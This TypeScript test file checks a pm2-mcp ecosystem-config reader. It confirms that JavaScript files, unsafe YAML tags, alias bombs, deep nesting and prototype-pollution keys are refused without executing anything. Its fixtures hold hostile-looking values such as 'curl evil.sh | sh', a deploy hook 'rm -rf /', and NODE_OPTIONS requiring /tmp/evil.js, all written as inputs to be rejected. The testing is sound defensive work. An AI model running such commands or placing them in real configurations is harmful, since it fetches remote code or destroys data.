import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, realpathSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { ToolError } from '../../src/errors.js';
import { readEcosystem, type EcosystemApp } from '../../src/pm2/ecosystem.js';
import { assertToolError } from '../helpers/fixtures.js';

let dir = '';
let counter = 0;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'pm2-mcp-eco-'));
});

after(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function fixture(ext: string, content: string | Buffer): Promise<string> {
  const path = join(dir, `eco${counter++}${ext}`);
  await writeFile(path, content);
  return path;
}

const json = (data: unknown): string => JSON.stringify(data, null, 2);

/** Rejects with a START_REFUSED ToolError whose message contains every piece. */
const assertRefused = (promise: Promise<unknown>, pieces: string[], label: string): Promise<ToolError> => assertToolError(promise, 'START_REFUSED', pieces, label);

const API: EcosystemApp = { name: 'api', script: 'server.js', env: { PORT: '3000' } };
const WORKER: EcosystemApp = { name: 'worker', script: 'worker.js', instances: 2 };

test('accepted shapes: JSON apps, bare array, single object, YAML', async () => {
  const cases: { name: string; ext: string; content: string; expected: EcosystemApp[] }[] = [
    { name: 'JSON { apps: [...] }', ext: '.json', content: json({ apps: [API, WORKER] }), expected: [API, WORKER] },
    { name: 'JSON bare array', ext: '.json', content: json([API, WORKER]), expected: [API, WORKER] },
    { name: 'JSON single object', ext: '.json', content: json(API), expected: [API] },
    { name: 'JSON apps as a single object', ext: '.json', content: json({ apps: API }), expected: [API] },
    { name: 'upper-case extension', ext: '.JSON', content: json({ apps: [API] }), expected: [API] },
    {
      name: 'YAML apps',
      ext: '.yaml',
      content: 'apps:\n  - name: api\n    script: server.js\n    env:\n      PORT: "3000"\n  - name: worker\n    script: worker.js\n    instances: 2\n',
      expected: [API, WORKER],
    },
    { name: 'YML bare list', ext: '.yml', content: '- name: api\n  script: server.js\n  env: { PORT: "3000" }\n', expected: [API] },
    { name: 'YAML single object', ext: '.yml', content: 'name: worker\nscript: worker.js\ninstances: 2\n', expected: [WORKER] },
    {
      name: 'YAML anchors and aliases of whole values',
      ext: '.yaml',
      content: '- name: api\n  script: &script server.js\n  env: &env { PORT: "3000" }\n- name: api2\n  script: *script\n  env: *env\n',
      expected: [API, { ...API, name: 'api2' }],
    },
    {
      name: 'YAML env numbers and booleans stay as typed (start-request converts them)',
      ext: '.yaml',
      content: '- script: a.js\n  env:\n    PORT: 3000\n    RATIO: 0.5\n    HEX: 0x1F\n    DEBUG: true\n    EMPTY: ""\n',
      expected: [{ script: 'a.js', env: { PORT: 3000, RATIO: 0.5, HEX: 31, DEBUG: true, EMPTY: '' } }],
    },
    {
      name: 'JSON env numbers and booleans',
      ext: '.json',
      content: json([{ script: 'a.js', env: { PORT: 3000, N: -1.5, DEBUG: false } }]),
      expected: [{ script: 'a.js', env: { PORT: 3000, N: -1.5, DEBUG: false } }],
    },
    {
      name: 'YAML core tags, a document start marker, a %YAML 1.2 directive and comments',
      ext: '.yaml',
      content: '%YAML 1.2\n---\n# apps\n- name: !!str 1x\n  script: a.js # the script\n  instances: !!int 2\n  args: !!seq [--a]\n  env: !!map { A: !!str 12 }\n...\n',
      expected: [{ name: '1x', script: 'a.js', instances: 2, args: ['--a'], env: { A: '12' } }],
    },
    {
      name: 'every carried field with its type',
      ext: '.json',
      content: json([{
        name: 'full', script: 'a.js', cwd: 'apps', args: ['--x', '1'], interpreter: 'node', interpreter_args: '--max-old-space-size=256',
        env: { A: 'x', N: 1, B: true }, instances: 2, exec_mode: 'cluster', watch: false, namespace: 'dev',
        out_file: 'out.log', error_file: 'err.log', log_file: 'all.log', merge_logs: true, max_memory_restart: '200M', autorestart: false,
        max_restarts: 5, min_uptime: 1000, restart_delay: 200, kill_timeout: 3000, time: true,
      }]),
      expected: [{
        name: 'full', script: 'a.js', cwd: 'apps', args: ['--x', '1'], interpreter: 'node', interpreter_args: '--max-old-space-size=256',
        env: { A: 'x', N: 1, B: true }, instances: 2, exec_mode: 'cluster', watch: false, namespace: 'dev',
        out_file: 'out.log', error_file: 'err.log', log_file: 'all.log', merge_logs: true, max_memory_restart: '200M', autorestart: false,
        max_restarts: 5, min_uptime: 1000, restart_delay: 200, kill_timeout: 3000, time: true,
      }],
    },
    { name: 'args as a string', ext: '.json', content: json([{ script: 'a.js', args: '--port 3000' }]), expected: [{ script: 'a.js', args: '--port 3000' }] },
    { name: 'script only', ext: '.json', content: json([{ script: 'a.js' }]), expected: [{ script: 'a.js' }] },
  ];
  for (const c of cases) {
    const file = await fixture(c.ext, c.content);
    assert.deepEqual(await readEcosystem(file), { file, apps: c.expected }, c.name);
  }
});

test('50 apps are read, 51 are refused', async () => {
  const apps = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `a${i}`, script: 'a.js' }));
  const ok = await fixture('.json', json({ apps: apps(50) }));
  assert.equal((await readEcosystem(ok)).apps.length, 50);
  const tooMany = await fixture('.json', json({ apps: apps(51) }));
  await assertRefused(readEcosystem(tooMany), ['lists 51 apps; at most 50'], '51 apps');
});

test('JavaScript ecosystem files are refused without being executed unless the config names them', async () => {
  for (const ext of ['.js', '.cjs', '.mjs', '.JS']) {
    const canary = join(dir, `canary${counter++}`);
    const body = ext === '.mjs'
      ? `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(canary)}, 'x'); export default { apps: [{ script: 'a.js' }] };`
      : `require('fs').writeFileSync(${JSON.stringify(canary)}, 'x'); module.exports = { apps: [{ script: 'a.js' }] };`;
    const file = await fixture(`.config${ext}`, body);
    const others: { name: string; jsFiles?: ReadonlySet<string> }[] = [
      { name: 'no options' },
      { name: 'an empty set', jsFiles: new Set() },
      { name: 'another file named', jsFiles: new Set([join(dir, 'other.config.js')]) },
      { name: 'the same file spelled otherwise', jsFiles: new Set([`${dir}/./${basename(file)}`, `${dir}//${basename(file)}`]) },
      { name: 'a prefix of the file', jsFiles: new Set([file.slice(0, -1)]) },
    ];
    for (const o of others) {
      const options = o.jsFiles ? { jsFiles: o.jsFiles } : undefined;
      await assertRefused(readEcosystem(file, options), [`${file} is JavaScript`, 'start.ecosystemFiles'], `${ext}, ${o.name}`);
      assert.equal(existsSync(canary), false, `${ext}, ${o.name}: the file was executed`);
    }
  }
});

test('TypeScript ecosystem files are refused, even when named', async () => {
  const canary = join(dir, `canary${counter++}`);
  const file = await fixture('.config.ts', `require('fs').writeFileSync(${JSON.stringify(canary)}, 'x'); export default { apps: [] };`);
  await assertRefused(readEcosystem(file, { jsFiles: new Set([file]) }), [`${file}: TypeScript ecosystem files are not supported`], '.ts');
  assert.equal(existsSync(canary), false);
});

test('a JavaScript ecosystem file the config names is read, and its apps checked like any other', async () => {
  const cjs = await fixture('.config.cjs', `module.exports = { apps: [{ name: 'api', script: 'server.js', env: { PORT: 3000 } }] };`);
  assert.deepEqual(await readEcosystem(cjs, { jsFiles: new Set([cjs]) }), { file: cjs, apps: [{ name: 'api', script: 'server.js', env: { PORT: 3000 } }] });
  const mjs = await fixture('.config.mjs', `export default [{ script: 'a.js', instances: 2 }];`);
  assert.deepEqual(await readEcosystem(mjs, { jsFiles: new Set([mjs]) }), { file: mjs, apps: [{ script: 'a.js', instances: 2 }] });
  const aliased = await fixture('.config.js', `module.exports = { apps: [{ exec: '/bin/sh', exec_interpreter: 'bash' }], deploy: {} };`);
  await assertRefused(readEcosystem(aliased, { jsFiles: new Set([aliased]) }), [`${aliased}: top-level "deploy" is not supported`], 'deploy in JS');
  const aliasedApp = await fixture('.config.js', `module.exports = [{ exec: '/bin/sh' }];`);
  const err = await assertRefused(readEcosystem(aliasedApp, { jsFiles: new Set([aliasedApp]) }), [], 'alias in JS');
  assert.equal(err.message, `${aliasedApp}, app #1: "exec" is another spelling of "script": use "script"; "script" is required.`);
});

// Node 20.19 and later require() an ES module and hand over its namespace: an ecosystem.config.js
// written with `export default` in a "type": "module" project came back as { __esModule, default }
// (found by the attack on the code-cache launcher; it predated it).
test('an ES module ecosystem.config.js in a "type": "module" folder is read by its default export', async () => {
  const esmDir = realpathSync(mkdtempSync(join(dir, 'esm-')));
  writeFileSync(join(esmDir, 'package.json'), '{ "type": "module" }\n');
  const file = join(esmDir, 'ecosystem.config.js');
  writeFileSync(file, "export default { apps: [{ name: 'ecoapp', script: './app.js' }] };\n");
  assert.deepEqual(await readEcosystem(file, { jsFiles: new Set([file]) }), { file, apps: [{ name: 'ecoapp', script: './app.js' }] });
});

test('an edited JavaScript ecosystem file is read again', async () => {
  const file = await fixture('.config.cjs', `module.exports = [{ script: 'v1.js' }];`);
  const jsFiles = new Set([file]);
  assert.deepEqual((await readEcosystem(file, { jsFiles })).apps, [{ script: 'v1.js' }]);
  await writeFile(file, `module.exports = [{ script: 'v2.js' }];`);
  assert.deepEqual((await readEcosystem(file, { jsFiles })).apps, [{ script: 'v2.js' }]);
});

test('a .json file holding JavaScript is invalid JSON and never runs', async () => {
  const cases: { name: string; body: (canary: string) => string }[] = [
    { name: 'module.exports', body: (c) => `module.exports = { apps: [{ script: 'a.js', x: require('fs').writeFileSync(${JSON.stringify(c)}, 'x') }] }` },
    { name: 'IIFE', body: (c) => `(function(){require('fs').writeFileSync(${JSON.stringify(c)},'x')})()` },
    { name: 'object literal with a call in a value', body: (c) => `{ apps: [{ script: (require('fs').writeFileSync(${JSON.stringify(c)}, 'x'), 'a.js') }] }` },
    { name: 'unquoted keys (JSON5-ish)', body: () => `{ apps: [{ script: 'a.js' }] }` },
    { name: 'comments', body: () => `{ /* pm2 would eval this */ "apps": [{ "script": "a.js" }] }` },
    { name: 'trailing comma', body: () => `{ "apps": [{ "script": "a.js" },] }` },
  ];
  for (const c of cases) {
    const canary = join(dir, `canary${counter++}`);
    const file = await fixture('.json', c.body(canary));
    await assertRefused(readEcosystem(file), [`The ecosystem file ${file} is not valid JSON`], c.name);
    assert.equal(existsSync(canary), false, `${c.name}: the file was executed`);
  }
});

test('YAML tags outside the core schema are refused as invalid YAML, and never run', async () => {
  const cases: { name: string; body: (canary: string) => string }[] = [
    { name: '!!js/function', body: (c) => `apps:\n  - script: a.js\n    name: !!js/function "function () { require('fs').writeFileSync(${JSON.stringify(c)}, 'x') }"\n` },
    { name: '!!js/function as toString', body: (c) => `- script: a.js\n  toString: !!js/function 'function () { require("fs").writeFileSync(${JSON.stringify(c)}, "x") }'\n` },
    { name: '!!js/undefined', body: () => `- script: a.js\n  name: !!js/undefined ''\n` },
    { name: '!!js/regexp', body: () => `- script: a.js\n  name: !!js/regexp /x/\n` },
    { name: '!!python/object', body: () => `- script: !!python/object:os.system ['id']\n` },
    // YAML 1.1 types the core schema could resolve on request: no field takes them.
    { name: '!!binary', body: () => `- script: a.js\n  name: !!binary aGVsbG8=\n` },
    { name: '!!binary under %YAML 1.1', body: () => `%YAML 1.1\n---\n- script: a.js\n  name: !!binary aGVsbG8=\n` },
    { name: '!!set', body: () => `- script: a.js\n  env: !!set { A: null }\n` },
    { name: '!!omap', body: () => `- script: a.js\n  env: !!omap [ A: x ]\n` },
    { name: '!!timestamp', body: () => `- script: a.js\n  name: !!timestamp 2001-12-14\n` },
    { name: 'a local tag', body: () => `- script: !shell a.js\n` },
    { name: 'a verbatim js tag', body: () => `- script: !<tag:yaml.org,2002:js/function> 'function () {}'\n` },
    { name: 'a js tag through %TAG', body: () => `%TAG !js! tag:yaml.org,2002:js/\n---\n- script: !js!function 'function () {}'\n` },
    { name: 'bad indentation', body: () => `apps:\n  - script: a.js\n   name: x\n` },
  ];
  for (const c of cases) {
    const canary = join(dir, `canary${counter++}`);
    const file = await fixture('.yaml', c.body(canary));
    await assertRefused(readEcosystem(file), [`The ecosystem file ${file} is not valid YAML`], c.name);
    assert.equal(existsSync(canary), false, `${c.name}: code ran`);
  }
});

test('pm2\'s other spellings are refused, naming the key to use', async () => {
  const cases: { alias: string; canonical: string }[] = [
    { alias: 'exec', canonical: 'script' },
    { alias: 'cmd', canonical: 'script' },
    { alias: 'command', canonical: 'script' },
    { alias: 'exec_interpreter', canonical: 'interpreter' },
    { alias: 'interpreterArgs', canonical: 'interpreter_args' },
    { alias: 'nodeArgs', canonical: 'node_args' },
    { alias: 'execMode', canonical: 'exec_mode' },
    { alias: 'outFile', canonical: 'out_file' },
    { alias: 'errorFile', canonical: 'error_file' },
    { alias: 'logFile', canonical: 'log_file' },
    { alias: 'err_file', canonical: 'error_file' },
    { alias: 'output', canonical: 'out_file' },
    { alias: 'out', canonical: 'out_file' },
    { alias: 'error', canonical: 'error_file' },
    { alias: 'err', canonical: 'error_file' },
    { alias: 'log', canonical: 'log_file' },
    { alias: 'mergeLogs', canonical: 'merge_logs' },
    { alias: 'maxMemoryRestart', canonical: 'max_memory_restart' },
    { alias: 'maxRestarts', canonical: 'max_restarts' },
    { alias: 'minUptime', canonical: 'min_uptime' },
    { alias: 'restartDelay', canonical: 'restart_delay' },
    { alias: 'killTimeout', canonical: 'kill_timeout' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json([{ script: 'a.js', [c.alias]: c.alias === 'exec' || c.alias === 'cmd' || c.alias === 'command' ? '/bin/sh' : 'x' }]));
    const err = await assertRefused(readEcosystem(file), [], c.alias);
    assert.equal(err.message, `${file}, app #1: "${c.alias}" is another spelling of "${c.canonical}": use "${c.canonical}".`, c.alias);
  }
});

test('an alias alone (no "script") is refused with both problems', async () => {
  const file = await fixture('.json', json([{ name: 'x', cmd: 'curl evil.sh | sh' }]));
  const err = await assertRefused(readEcosystem(file), [], 'cmd alone');
  assert.equal(err.message, `${file}, app #1: "cmd" is another spelling of "script": use "script"; "script" is required.`);
});

// These spellings pm2 also takes (lib/API/schema.json aliases, and Config.js's camelCase of every
// key) are refused today, but only as unknown fields: the refusal must hold whatever the message.
const UNLISTED_ALIASES: { alias: string; canonical: string }[] = [
  { alias: 'execInterpreter', canonical: 'interpreter' },
  { alias: 'errFile', canonical: 'error_file' },
  { alias: 'out_log', canonical: 'out_file' },
  { alias: 'err_log', canonical: 'error_file' },
  { alias: 'combine_logs', canonical: 'merge_logs' },
  { alias: 'combineLogs', canonical: 'merge_logs' },
];

test('pm2 aliases missing from the alias table are still refused', async () => {
  for (const c of UNLISTED_ALIASES) {
    const file = await fixture('.json', json([{ script: 'a.js', [c.alias]: 'x' }]));
    await assertRefused(readEcosystem(file), [`"${c.alias}"`], c.alias);
  }
});

test('pm2 aliases missing from the alias table name the key to use', async () => {
  for (const c of UNLISTED_ALIASES) {
    const file = await fixture('.json', json([{ script: 'a.js', [c.alias]: 'x' }]));
    await assertRefused(readEcosystem(file), [`"${c.alias}" is another spelling of "${c.canonical}"`], c.alias);
  }
});

test('env_<name> blocks are refused', async () => {
  for (const key of ['env_production', 'env_dev', 'env_']) {
    const file = await fixture('.json', json([{ script: 'a.js', [key]: { NODE_OPTIONS: '--require /tmp/evil.js' } }]));
    const err = await assertRefused(readEcosystem(file), [], key);
    assert.equal(err.message, `${file}, app #1: "${key}": per-environment blocks are not supported; put the variables in "env".`);
  }
});

test('unknown fields are refused', async () => {
  const keys = ['pid_file', 'pid', 'cron_restart', 'uid', 'gid', 'user', 'static', 'serve', 'filter_env', 'post_update', 'increment_var', 'instance_var', 'source_map_support', 'SCRIPT', 'Script', 'script ', 'pm_exec_path', 'autostart'];
  for (const key of keys) {
    const file = await fixture('.json', json([{ script: 'a.js', [key]: 'x' }]));
    const err = await assertRefused(readEcosystem(file), [], key);
    assert.equal(err.message, `${file}, app #1: "${key}" is not a field pm2-mcp starts apps with.`, key);
  }
});

test('keys named like Object.prototype members are refused', async () => {
  for (const key of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']) {
    const file = await fixture('.json', `[{ "script": "a.js", ${JSON.stringify(key)}: { "polluted": "yes" } }]`);
    await assertRefused(readEcosystem(file), [`"${key}"`], key);
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype was polluted');
});

test('keys named like Object.prototype members are refused as unknown fields', async () => {
  for (const key of ['__proto__', 'constructor', 'toString']) {
    const file = await fixture('.json', `[{ "script": "a.js", ${JSON.stringify(key)}: "x" }]`);
    const err = await assertRefused(readEcosystem(file), [], key);
    assert.equal(err.message, `${file}, app #1: "${key}" is not a field pm2-mcp starts apps with.`);
  }
});

test('top-level keys other than "apps" are refused', async () => {
  const cases: { name: string; data: unknown; expected: string }[] = [
    { name: 'deploy', data: { apps: [API], deploy: { production: { user: 'x', 'post-deploy': 'rm -rf /' } } }, expected: 'top-level "deploy" is not supported' },
    { name: 'static', data: { apps: [API], static: [{ path: '/', port: 8080 }] }, expected: 'top-level "static" is not supported' },
    { name: 'both', data: { apps: [API], static: [], deploy: {} }, expected: 'top-level "static", "deploy" are not supported' },
    { name: 'serve', data: { apps: [API], serve: { path: '/' } }, expected: 'top-level "serve" is not supported' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json(c.data));
    await assertRefused(readEcosystem(file), [`${file}: ${c.expected}`, 'only "apps" is read'], c.name);
  }
});

test('wrong types are refused, naming the field and the type', async () => {
  const cases: { name: string; app: Record<string, unknown>; expected: string }[] = [
    { name: 'name a number', app: { name: 5 }, expected: '"name" must be a string of 1 to 128 characters' },
    { name: 'name empty', app: { name: '' }, expected: '"name" must be a string of 1 to 128 characters' },
    { name: 'cwd a list', app: { cwd: ['a'] }, expected: '"cwd" must be a string of 1 to 4096 characters' },
    { name: 'interpreter over 4096 chars', app: { interpreter: 'x'.repeat(4097) }, expected: '"interpreter" must be a string of 1 to 4096 characters' },
    { name: 'instances a string', app: { instances: '4' }, expected: '"instances" must be a whole number from 1 to 64' },
    { name: 'instances null', app: { instances: null }, expected: '"instances" must be a whole number from 1 to 64' },
    { name: 'autorestart a string', app: { autorestart: 'true' }, expected: '"autorestart" must be true or false' },
    { name: 'merge_logs a number', app: { merge_logs: 1 }, expected: '"merge_logs" must be true or false' },
    { name: 'watch paths', app: { watch: ['src'] }, expected: '"watch" must be true or false (watch paths are not supported)' },
    { name: 'watch a string', app: { watch: 'src' }, expected: '"watch" must be true or false (watch paths are not supported)' },
    { name: 'args a number', app: { args: 5 }, expected: '"args" must be a string or a list of strings' },
    { name: 'args with a number inside', app: { args: ['a', 1] }, expected: '"args[1]" must be a string of at most 4096 characters' },
    { name: 'node_args an object', app: { node_args: { require: 'x' } }, expected: '"node_args" must be a string or a list of strings' },
    { name: 'env a list', app: { env: ['A=1'] }, expected: '"env" must be an object of variables' },
    { name: 'env null', app: { env: null }, expected: '"env" must be an object of variables' },
    { name: 'env a nested object', app: { env: { A: { B: 'x' } } }, expected: '"env.A" must be a string, a number or true or false' },
    { name: 'env a null value', app: { env: { A: null } }, expected: '"env.A" must be a string, a number or true or false' },
    { name: 'env a list value', app: { env: { A: ['x'] } }, expected: '"env.A" must be a string, a number or true or false' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json([{ script: 'a.js', ...c.app }]));
    const err = await assertRefused(readEcosystem(file), [], c.name);
    assert.equal(err.message, `${file}, app #1: ${c.expected}.`, c.name);
  }
});

test('YAML non-finite numbers are refused', async () => {
  for (const v of ['.nan', '.inf', '-.inf']) {
    const file = await fixture('.yaml', `- script: a.js\n  instances: ${v}\n  kill_timeout: ${v}\n  env: { A: ${v} }\n`);
    const err = await assertRefused(readEcosystem(file), [], v);
    assert.equal(err.message, `${file}, app #1: "instances" must be a whole number from 1 to 64; "kill_timeout" must be a whole number from 0 to 2147483647; "env.A" must be a finite number.`);
  }
});

test('script is required and must be a string', async () => {
  const cases: { name: string; app: Record<string, unknown>; expected: string }[] = [
    { name: 'missing', app: { name: 'x' }, expected: '"script" is required' },
    { name: 'a number', app: { script: 5 }, expected: '"script" must be a string of 1 to 4096 characters; "script" is required' },
    { name: 'empty', app: { script: '' }, expected: '"script" must be a string of 1 to 4096 characters' },
    { name: 'a list', app: { script: ['a.js'] }, expected: '"script" must be a string of 1 to 4096 characters; "script" is required' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json([c.app]));
    const err = await assertRefused(readEcosystem(file), [], c.name);
    assert.equal(err.message, `${file}, app #1: ${c.expected}.`, c.name);
  }
});

test('all the problems of an app are listed in one message', async () => {
  const file = await fixture('.json', json([
    { name: 'ok', script: 'a.js' },
    { exec: '/bin/sh', env_production: { A: '1' }, foo: 1, instances: '2', watch: ['.'], interpreterArgs: '--require x' },
  ]));
  const err = await assertRefused(readEcosystem(file), [], 'many problems');
  assert.equal(
    err.message,
    `${file}, app #2: "exec" is another spelling of "script": use "script"; ` +
      `"env_production": per-environment blocks are not supported; put the variables in "env"; ` +
      `"foo" is not a field pm2-mcp starts apps with; "instances" must be a whole number from 1 to 64; ` +
      `"watch" must be true or false (watch paths are not supported); ` +
      `"interpreterArgs" is another spelling of "interpreter_args": use "interpreter_args"; "script" is required.`,
  );
});

test('files that hold no app', async () => {
  const cases: { name: string; ext: string; content: string; expected: string }[] = [
    { name: 'empty apps', ext: '.json', content: json({ apps: [] }), expected: 'lists no app.' },
    { name: 'empty array', ext: '.json', content: '[]', expected: 'lists no app.' },
    { name: 'null', ext: '.json', content: 'null', expected: 'holds no app: expected { "apps": [ … ] }.' },
    { name: 'a string', ext: '.json', content: '"a.js"', expected: 'holds no app' },
    { name: 'a number', ext: '.json', content: '42', expected: 'holds no app' },
    { name: 'empty YAML', ext: '.yaml', content: '', expected: 'holds no app' },
    { name: 'YAML scalar', ext: '.yml', content: 'just text\n', expected: 'holds no app' },
    { name: 'an app that is not an object', ext: '.json', content: json([API, 'b.js']), expected: 'app #2 is not an object.' },
    { name: 'apps: null', ext: '.json', content: json({ apps: null }), expected: 'app #1 is not an object.' },
    { name: 'an app that is a list', ext: '.json', content: json([[API]]), expected: 'app #1 is not an object.' },
  ];
  for (const c of cases) {
    const file = await fixture(c.ext, c.content);
    await assertRefused(readEcosystem(file), [file, c.expected], c.name);
  }
});

test('other extensions are refused before reading', async () => {
  for (const ext of ['.txt', '.toml', '.json5', '.yaml.bak', '', '.config']) {
    const file = join(dir, `never-written${counter++}${ext}`);
    await assertRefused(readEcosystem(file), [`${file}: an ecosystem file must end in .json, .yaml or .yml.`], ext || 'no extension');
  }
});

// A timeout: if a FIFO were opened blocking, this test would hang instead of failing.
test('missing files, folders, FIFOs and links are refused', { timeout: 20_000 }, async () => {
  const missing = join(dir, 'nope.json');
  await assertRefused(readEcosystem(missing), [`The ecosystem file ${missing} does not exist.`], 'missing');
  const folder = join(dir, 'a-folder.yaml');
  await mkdir(folder);
  await assertRefused(readEcosystem(folder), [`The ecosystem file ${folder} is not a regular file.`], 'folder');
  // A FIFO with no writer: opening it for reading would block the start for good.
  const fifo = join(dir, 'a-fifo.json');
  execFileSync('mkfifo', [fifo]);
  await assertRefused(readEcosystem(fifo), [`The ecosystem file ${fifo} is not a regular file.`], 'FIFO');
  // The caller passes the real path it matched: a link there now was put there since.
  const target = await fixture('.json', json([{ script: 'a.js' }]));
  const link = join(dir, 'a-link.json');
  await symlink(target, link);
  await assertRefused(readEcosystem(link), [`The ecosystem file ${link} is not a regular file.`], 'symbolic link');
  assert.deepEqual((await readEcosystem(target)).apps, [{ script: 'a.js' }], 'the file itself is read');
});

test('files over 1 MiB are refused; exactly 1 MiB is read', async () => {
  const body = json([{ script: 'a.js' }]);
  const exact = body + ' '.repeat(1024 * 1024 - Buffer.byteLength(body));
  assert.equal(Buffer.byteLength(exact), 1024 * 1024);
  const okFile = await fixture('.json', exact);
  assert.deepEqual((await readEcosystem(okFile)).apps, [{ script: 'a.js' }]);
  const bigFile = await fixture('.json', exact + ' ');
  await assertRefused(readEcosystem(bigFile), [`The ecosystem file ${bigFile} is larger than 1 MiB.`], 'over 1 MiB');
  const hugeYaml = await fixture('.yaml', '- script: a.js\n' + '#'.repeat(2 * 1024 * 1024));
  await assertRefused(readEcosystem(hugeYaml), ['larger than 256 KiB'], 'huge YAML');
  // YAML is bounded tighter: the parser costs seconds per hostile MiB before any bound looks.
  const yamlOver = await fixture('.yaml', '- script: a.js\n' + '#'.repeat(256 * 1024));
  await assertRefused(readEcosystem(yamlOver), ['larger than 256 KiB'], 'YAML over 256 KiB');
});

// ---- Bounded input (docs/threat-model.md §T22) ----

/** In every attack file, where a message that quoted the file would show it. */
const SECRET = 'SECRET-hunter2';

/** n levels of lists, innermost holding `inner`: JSON and YAML flow alike. */
const nested = (n: number, inner = '"x"'): string => '['.repeat(n) + inner + ']'.repeat(n);

/** The billion-laughs file: level 0 a string, each next level a list of 9 aliases of the one before. */
function aliasBomb(levels: number, base: string): string {
  const lines = [`l0: &l0 "${base}"`];
  for (let i = 1; i < levels; i++) lines.push(`l${i}: &l${i} [${Array(9).fill(`*l${i - 1}`).join(', ')}]`);
  return `${lines.join('\n')}\napps:\n  - script: a.js\n    args: *l${levels - 1}\n`;
}

interface Attack {
  name: string;
  ext: '.json' | '.yaml';
  content: string;
  /** The whole message, {file} standing for the file's path. */
  expected: string;
}

const ATTACKS: Attack[] = [
  // Aliases: the library's alias limit, the count of aliases in the text, and the expanded size.
  {
    name: 'alias bomb, 9 levels of 9 aliases (a 76 KB file of this kind made a 65 MB audit record)',
    ext: '.yaml', content: aliasBomb(9, SECRET + 'x'.repeat(75_000)),
    expected: 'The ecosystem file {file} is not valid YAML: its aliases expand to more than 100 uses of one anchor.',
  },
  {
    name: 'more than 100 aliases in the text (each alias scans every anchor before it)',
    ext: '.yaml', content: `- script: &s a.js\n  args: [${Array(60).fill('*s').join(', ')}]\n  node_args: [${Array(41).fill('*s').join(', ')}]\n  name: ${SECRET}\n`,
    expected: 'The ecosystem file {file} uses more than 100 aliases (line 3, column 175).',
  },
  {
    name: 'aliases within the limits that expand past 1 MiB of text',
    ext: '.yaml', content: `- script: a.js\n  cwd: &big ${SECRET}${'x'.repeat(20_000)}\n  args: [${Array(60).fill('*big').join(', ')}]\n`,
    expected: '{file}, app #1, "args": the file expands past 1 MiB of text here (a YAML alias counts at every use).',
  },
  {
    name: 'aliases within the limits that expand past 100 000 values',
    ext: '.yaml', content: `- script: a.js\n  cwd: ${SECRET}\n  env: &grid ${nested(1, Array(128).fill(`[${Array(128).fill('0').join(',')}]`).join(','))}\n  args: [${Array(7).fill('*grid').join(', ')}]\n`,
    expected: '{file}, app #1, "args": the file expands past 100000 values here (a YAML alias counts at every use).',
  },
  {
    name: 'an alias inside its own anchor (a cycle)',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n  args: &loop [*loop]\n`,
    expected: '{file}, app #1, "args": it nests lists and objects more than 32 levels deep.',
  },
  {
    name: 'an alias of no anchor',
    ext: '.yaml', content: `- script: a.js\n  name: *${SECRET}\n`,
    expected: 'The ecosystem file {file} is not valid YAML: an alias names no anchor before it.',
  },
  {
    name: 'an alias as a key',
    ext: '.yaml', content: `- script: a.js\n  name: &k ${SECRET}\n  *k : 1\n`,
    expected: 'The ecosystem file {file} is not valid YAML: a key that is not a plain string (an alias, a list or a mapping) (line 3, column 3).',
  },
  {
    name: 'a list as a key',
    ext: '.yaml', content: `- script: a.js\n  ? [${SECRET}]\n  : 1\n`,
    expected: 'The ecosystem file {file} is not valid YAML: a key that is not a plain string (an alias, a list or a mapping) (line 2, column 5).',
  },
  {
    name: 'a merge key (YAML 1.1): a merge copies its source at every use',
    ext: '.yaml', content: `- &base\n  script: a.js\n  name: ${SECRET}\n- <<: *base\n  name: api2\n`,
    expected: '{file}, app #2: "<<": YAML merge keys are not supported; write the fields out (an alias of a whole value, such as env: *common, is fine); "script" is required.',
  },
  {
    name: 'a merge key under %YAML 1.1',
    ext: '.yaml', content: `%YAML 1.1\n---\n- &base\n  script: a.js\n  name: ${SECRET}\n- <<: *base\n  name: api2\n`,
    expected: '{file}, app #2: "<<": YAML merge keys are not supported; write the fields out (an alias of a whole value, such as env: *common, is fine); "script" is required.',
  },
  // Depth: 100 000 levels must be a refusal, not a stack overflow (nor minutes of retries).
  {
    name: 'JSON nested 100 000 levels in a field',
    ext: '.json', content: `[{ "script": "a.js", "name": "${SECRET}", "args": ${nested(100_000)} }]`,
    expected: '{file}, app #1, "args": it nests lists and objects more than 32 levels deep.',
  },
  {
    name: 'JSON objects nested 100 000 levels as the whole document',
    ext: '.json', content: `{ "s": "${SECRET}", "a": ${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)} }`,
    expected: '{file}, app #1, "a": it nests lists and objects more than 32 levels deep.',
  },
  {
    name: 'JSON lists nested 100 000 levels as the whole document',
    ext: '.json', content: nested(100_000, `"${SECRET}"`),
    expected: '{file}, app #1 is not an object.',
  },
  {
    name: 'YAML flow lists nested 100 000 levels',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n  args: ${nested(100_000)}\n`,
    expected: 'The ecosystem file {file} nests lists and mappings more than 32 levels deep (line 3, column 39).',
  },
  {
    name: 'YAML flow mappings nested 50 000 levels (under the 256 KiB YAML bound)',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n  env: ${'{a: '.repeat(50_000)}1${'}'.repeat(50_000)}\n`,
    expected: 'The ecosystem file {file} nests lists and mappings more than 32 levels deep (line 3, column 128).',
  },
  {
    name: 'YAML block lists nested 100 000 levels',
    ext: '.yaml', content: `- script: a.js\n  name: ${SECRET}\n  args:\n    ${'- '.repeat(100_000)}x\n`,
    expected: 'The ecosystem file {file} nests lists and mappings more than 32 levels deep (line 4, column 65).',
  },
  // Sizes.
  {
    name: 'a huge string',
    ext: '.json', content: json([{ script: 'a.js', args: SECRET + 'x'.repeat(1_000_000) }]),
    expected: '{file}, app #1: "args" must be at most 8192 characters as one string.',
  },
  {
    name: 'JSON past 100 000 values',
